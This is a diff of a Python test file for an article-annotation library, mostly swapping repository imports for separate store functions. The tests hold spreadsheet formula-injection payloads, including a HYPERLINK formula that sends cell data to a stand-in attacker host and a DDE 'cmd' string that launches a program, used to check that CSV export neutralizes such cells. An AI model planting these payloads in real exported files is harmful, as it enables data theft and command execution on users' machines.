@@ -20,7 +20,8 @@ from nkreader.export import csv, markdown, w3c
 from nkreader.services.exporting import render, snapshot
 from nkreader.services.importing import import_paths
 from nkreader.services.library import Library
-from nkreader.store import repository as repo
+from nkreader.store.articles import add_article
+from nkreader.store.links import add_link
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
@@ -48,11 +49,11 @@ def sample_library(library: Library) -> Library:
     library.put(replace(orphan, anchor_state=AnchorState.ORPHANED, exact="words no longer there"))
     library.put(replace(marked[1][2], anchor_state=AnchorState.FUZZY))
     with library.database.writing() as session:
-        repo.add_link(
+        add_link(
             session,
             Link(None, new_uuid(), marked[0][0].uuid, marked[1][0].uuid, LinkType.CORROBORATES, utcnow()),
         )
-        repo.add_link(
+        add_link(
             session, Link(None, new_uuid(), marked[2][1].uuid, marked[0][1].uuid, LinkType.CITES, utcnow())
         )
     return library
@@ -183,7 +184,7 @@ def test_csv_neutralizes_formula_cells(library: Library, start: str) -> None:
     body = f"{start}1+2 said the source. {HOSTILE} was written on the wall."
     draft = ArticleDraft(title=start + "cmd|' /C calc'!A0", body=body, source="@source", url="-1")
     with library.database.writing() as session:
-        article_id = repo.add_article(session, draft, content_hash(body)).id
+        article_id = add_article(session, draft, content_hash(body)).id
     assert article_id is not None
     annotation = library.annotate(article_id, Kind.QUOTE, 0, body.index(" said"), speaker="=SUM(A1:A9)")
     library.edit(annotation, note="+ a note", tags=["-tag", "fine"])
